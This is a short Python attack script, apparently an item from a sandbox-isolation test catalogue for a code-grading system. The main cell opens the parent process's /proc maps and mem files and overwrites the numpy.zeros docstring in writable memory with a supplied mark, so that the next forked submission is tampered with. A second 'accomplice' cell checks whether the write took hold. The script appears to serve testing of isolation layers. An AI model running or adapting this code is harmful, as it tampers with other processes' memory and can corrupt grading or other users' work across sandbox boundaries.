# /// attack
# catalogue = "forging: patched student-side codec"
# layers = ["uid", "seccomp", "landlock"]
# aim = "left"
# stock = "there is no warm parent"
# ///
# Writes into the memory of the process that the next submission is forked from.

# %%
import os

mark = TARGET["mark"].encode()
for pid in (os.getppid(),):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
            for line in maps:
                if " rw-p " in line:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    data = memory.read(min(end - start, 64 << 20))
                    place = data.find(b"Return a new array of given shape and type, filled with zeros")
                    if place >= 0:
                        memory.seek(start + place)
                        memory.write(mark)
                        print("written")
    except OSError as error:
        print(pid, error)

# %% accomplice
import numpy

print(numpy.zeros.__doc__[:500])
